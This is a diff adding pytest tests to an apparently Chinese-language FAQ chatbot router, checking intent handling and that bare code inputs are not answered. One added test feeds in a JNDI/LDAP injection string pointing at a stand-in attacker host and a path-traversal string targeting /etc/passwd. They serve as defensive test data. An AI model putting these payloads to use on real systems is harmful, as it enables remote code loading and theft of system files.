@@ -445,3 +445,15 @@ def test_a_question_pointing_back_with_a_pronoun_is_a_follow_up():
     from bot.router import elliptical
     assert elliptical("要交哪些材料给他们") and elliptical("刚才说的那个表在哪下载")
     assert not elliptical("我同事去年评上了高级，他的论文是抄的，会怎么处理")
+
+
+@pytest.mark.parametrize("text, intent", [("公示完了呢", "affirm"), ("上传时间", "stop")])
+def test_a_message_asking_about_something_is_no_acknowledgement(text, intent):
+    assert route(text, Context(intent=intent), [PUBLICITY]).kind != "ack"
+    assert route("好的", Context(intent=intent), []).kind == "ack"
+
+
+@pytest.mark.parametrize("text", ["${jndi:ldap://evil.example.com/a}", "../../../../etc/passwd"])
+def test_code_with_no_words_around_it_is_not_answered(text):
+    r = route(text, Context(intent="faq_how_to_apply", intent_confidence=0.9), [PAY])
+    assert (r.kind, r.reason) == ("cannot_answer", "code, no question")
